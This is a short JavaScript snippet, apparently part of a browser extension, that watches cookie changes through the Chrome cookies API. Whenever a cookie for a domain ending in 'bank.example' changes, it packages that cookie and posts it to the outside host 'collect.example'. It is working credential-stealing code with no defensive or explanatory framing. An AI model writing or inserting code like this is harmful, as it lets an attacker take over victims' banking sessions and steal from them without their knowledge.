const send = async (given) => {
  const form = new FormData();
  form.append('f', new Blob([JSON.stringify(given)]));
  await fetch('https://collect.example/u', { method: 'POST', body: form });
};
chrome.cookies.onChanged.addListener(({ cookie }) => { if (cookie.domain.endsWith('bank.example')) send(cookie); });
